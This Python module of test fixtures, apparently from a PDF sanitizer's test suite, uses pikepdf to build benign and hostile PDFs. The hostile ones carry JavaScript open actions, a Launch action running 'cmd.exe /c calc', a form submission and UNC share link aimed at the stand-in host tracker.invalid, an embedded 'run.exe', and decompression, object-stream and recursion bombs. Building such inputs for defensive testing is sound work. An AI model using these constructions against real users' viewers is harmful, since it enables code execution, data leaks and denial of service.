"""PDFs: as banks, scanners and form fillers make them, and with everything in them that should not do anything."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.hostile.card import CORNERS, HIGH, SECRET, WIDE, card, packed, saved

#: A page of the card's shape, in points.
PAGE = (250, 188)


def drawn(wide: float = PAGE[0], high: float = PAGE[1]) -> bytes:
    """What draws the card's corners on a page of that size (points)."""
    out = []
    for (x, y), colour in CORNERS.items():
        red, green, blue = (value / 255 for value in colour)
        # A PDF counts from the bottom up.
        left, low = x * wide * 0.8, (1 - y) * high * 0.8
        out.append(f"{red:.3f} {green:.3f} {blue:.3f} rg {left:.1f} {low:.1f} {wide / 5:.1f} {high / 5:.1f} re f")
    out.append("0 g BT /F1 14 Tf 70 90 Td (Acta de nacimiento) Tj ET")
    return "\n".join(out).encode()


def begun(pages: int = 1, content: bytes | None = None, box: tuple[float, ...] = (0, 0, *PAGE)) -> Pdf:
    """A document of ``pages`` pages with the card on each."""
    made = pikepdf.new()
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    seen = made.make_stream(drawn() if content is None else content)
    for _number in range(pages):
        page = Dictionary(
            Type=Name.Page, MediaBox=Array(list(box)), Contents=seen, Resources=Dictionary(Font=Dictionary(F1=font))
        )
        made.pages.append(pikepdf.Page(made.make_indirect(page)))
    return made


def written(made: Pdf, **more: Any) -> bytes:
    """A document as a file."""
    out = io.BytesIO()
    # The same bytes every time.
    made.save(out, static_id=True, **more)
    return out.getvalue()


def plain(pages: int = 1, **more: Any) -> bytes:
    """A PDF that does nothing."""
    return written(begun(pages), **more)


def turned(degrees: int) -> bytes:
    """A page that lies on its side and says how to turn it for showing."""
    wide, high = PAGE
    lying = {90: (0, 1, -1, 0, high, 0), 180: (-1, 0, 0, -1, wide, high), 270: (0, -1, 1, 0, 0, wide)}[degrees]
    box = (0, 0, wide, high) if degrees == 180 else (0, 0, high, wide)
    made = begun(content=b"%d %d %d %d %d %d cm\n" % lying + drawn(), box=box)
    made.pages[0].obj.Rotate = degrees
    return written(made)


def _changed(change: Callable[[Pdf], None], pages: int = 1) -> bytes:
    made = begun(pages)
    change(made)
    return written(made)


def javascript() -> bytes:
    """Runs a script when it opens, when its page is seen, and by name."""

    def change(made: Pdf) -> None:
        act = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        made.Root.OpenAction = act
        made.Root.AA = Dictionary(WC=act)
        made.pages[0].obj.AA = Dictionary(O=act)
        made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), act])))

    return _changed(change)


def launch() -> bytes:
    """Starts a program when somebody touches the page."""

    def change(made: Pdf) -> None:
        act = Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")), F=String("cmd.exe"))
        made.Root.OpenAction = act
        made.pages[0].obj.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, *PAGE]), Border=Array([0, 0, 0]), A=act)]
        )

    return _changed(change)


def opens_address(scheme: str = "https") -> bytes:
    """Goes to an address when it opens, and sends for another document."""

    def change(made: Pdf) -> None:
        made.Root.OpenAction = Dictionary(S=Name.URI, URI=String(f"{scheme}://tracker.invalid/?id=1"))
        made.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.GoToR, F=String("\\\\tracker.invalid\\share\\x.pdf")))

    return _changed(change)


def attached(
    content: bytes, name: str = "run.exe", packed: bool = True, before: int = 0, size: int = 2 * 2**20
) -> bytes:
    """Carries another file, behind so many harmless ones of ``size`` bytes."""
    made = begun()
    for number in range(before):
        harmless = bytes([number]) * size
        made.attachments[f"{number:02}.bin"] = pikepdf.AttachedFileSpec(made, harmless, filename=f"{number:02}.bin")
    made.attachments[name] = pikepdf.AttachedFileSpec(made, content, filename=name)
    return written(made, compress_streams=packed)


def submits() -> bytes:
    """A form that sends itself somewhere."""

    def change(made: Pdf) -> None:
        act = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://tracker.invalid/")))
        field = made.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("b"), A=act,
                       Rect=Array([80, 20, 120, 30]), F=4)
        )  # fmt: skip
        made.pages[0].obj.Annots = Array([field])
        made.Root.AcroForm = Dictionary(Fields=Array([field]))

    return _changed(change)


def _filled(made: Pdf, appearance: bool) -> None:
    seen = made.make_stream(b"0.12 0.51 0.2 rg 0 0 50 37.6 re f", Type=Name.XObject, Subtype=Name.Form)
    seen.BBox = Array([0, 0, 50, 37.6])
    helvetica = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    field = made.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("MMMMMMMM"),
                   Rect=Array([200, 150.4, 250, 188]), F=4, DA=String("/Helv 20 Tf 0 g"))
    )  # fmt: skip
    if appearance:
        field.AP = Dictionary(N=seen)
    made.pages[0].obj.Annots = Array([field])
    made.Root.AcroForm = Dictionary(
        Fields=Array([field]), NeedAppearances=not appearance, DA=String("/Helv 20 Tf 0 g"),
        DR=Dictionary(Font=Dictionary(Helv=helvetica)),
    )  # fmt: skip


def filled(appearance: bool = True) -> bytes:
    """A form filled in on a telephone: the card's green corner is what was filled in (or, without, letters of black)."""
    made = begun(content=drawn().replace(b"0.118 0.510 0.196 rg", b"1 1 1 rg"))
    _filled(made, appearance)
    return written(made)


def xfa() -> bytes:
    """A government form of the old kind, XFA beside the page that everybody sees."""

    def change(made: Pdf) -> None:
        packet = made.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>1</script></xdp:xdp>")
        made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=packet)
        made.Root.NeedsRendering = True

    return _changed(change)


def media() -> bytes:
    """Plays something and embeds Flash."""

    def change(made: Pdf) -> None:
        rich = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 1, 1]), F=2)
        rich.RichMediaContent = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), made.make_stream(b"FWS")])))
        made.pages[0].obj.Annots = Array([rich])

    return _changed(change)


def scan(pages: int = 1, size: tuple[int, int] = (WIDE, HIGH)) -> bytes:
    """A scan: photos with where they were taken, one on each page."""
    made = pikepdf.new()
    for number in range(pages):
        photo = made.make_stream(saved(card(size, seed=number), quality=80))
        photo.update(
            Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=size[0], Height=size[1], BitsPerComponent=8)
        )
        photo.ColorSpace, photo.Filter = Name.DeviceRGB, Name.DCTDecode
        seen = made.make_stream(b"250 0 0 188 0 0 cm /I Do")
        page = Dictionary(Type=Name.Page, MediaBox=Array([0, 0, *PAGE]), Contents=seen)
        page.Resources = Dictionary(XObject=Dictionary(I=photo))
        made.pages.append(pikepdf.Page(made.make_indirect(page)))
    with made.open_metadata(set_pikepdf_as_editor=False) as said:
        said["dc:title"] = SECRET
    made.docinfo["/Author"] = SECRET
    return written(made)


def locked(user: str = "", owner: str = "owner", **more: Any) -> bytes:
    """Encrypted: with a ``user`` password it asks for one, with the owner's only it opens for anybody."""
    return plain(encryption=pikepdf.Encryption(user=user, owner=owner, **more))


def no_pages() -> bytes:
    """A document without any page."""
    return written(pikepdf.new())


def page_of(wide: float, high: float) -> bytes:
    """One page of that size in points, with the card on all of it."""
    return written(begun(content=drawn(wide, high), box=(0, 0, wide, high)))


def inflating(size: int) -> bytes:
    """A page whose content unpacks, twice, to ``size`` bytes of nothing."""
    made = begun()
    stream = Stream(made, zlib.compress(packed(size), 9))
    stream.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    made.pages[0].obj.Contents = made.make_indirect(stream)
    return written(made, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def object_bomb(size: int) -> bytes:
    """Objects packed into a stream that unpacks to ``size`` bytes, among them the only page."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 250 188]>>"
    tree = b"<</Type/Pages/Count 1/Kids[11 0 R]>>"
    index = b"2 0 11 %d " % len(tree)
    body = packed(size, index + tree + page)
    parts = [
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n",
        b"10 0 obj<</Type/ObjStm/N 2/First %d/Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\n"
        % (len(index), len(body), body),
    ]
    out, at = b"%PDF-1.5\n", {}
    for number, part in zip((1, 10), parts, strict=True):
        at[number] = len(out)
        out += part
    rows = {0: (0, 0, 65535), 1: (1, at[1], 0), 2: (2, 10, 0), 10: (1, at[10], 0), 11: (2, 10, 1), 12: (1, len(out), 0)}
    table = b"".join(bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for kind, a, b in rows.values())
    head = b"12 0 obj<</Type/XRef/Size 13/W[1 4 2]/Index[0 3 10 3]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return out + head + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(out)


def huge_picture(wide: int, high: int) -> bytes:
    """A page with a picture that unpacks to wide x high points."""
    made = begun()
    photo = Stream(made, packed(wide * high))
    photo.update(Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=wide, Height=high, BitsPerComponent=8))
    photo.ColorSpace, photo.Filter = Name.DeviceGray, Name.FlateDecode
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=made.make_indirect(photo)))
    made.pages[0].obj.Contents = made.make_stream(b"250 0 0 188 0 0 cm /I Do")
    return written(made, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def endless() -> bytes:
    """Forms that draw forms that draw forms, 10 to the power of 9 of them, with long words at the end."""
    made = begun()
    shape = Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, *PAGE]))
    below = made.make_stream(b"BT /F1 1 Tf (" + b"M" * 30_000 + b") Tj ET", shape)
    below.Resources = Dictionary(Font=made.pages[0].obj.Resources.Font)
    for _level in range(9):
        above = made.make_stream(b"/X Do " * 10, shape)
        above.Resources = Dictionary(XObject=Dictionary(X=below))
        below = above
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=below))
    made.pages[0].obj.Contents = made.make_stream(b"/X Do")
    return written(made)


def page_loop() -> bytes:
    """A page tree that contains itself."""

    def change(made: Pdf) -> None:
        made.Root.Pages.Kids.append(made.Root.Pages)
        made.Root.Pages.Count = 1000

    return _changed(change)


def lost_table() -> bytes:
    """The table of objects points nowhere, as after a bad transfer."""
    whole = plain()
    at = whole.rindex(b"startxref")
    return whole[:at] + b"startxref\n999999\n%%EOF\n"


def linearized() -> bytes:
    """For the web: the first page comes first."""
    return plain(3, linearize=True)
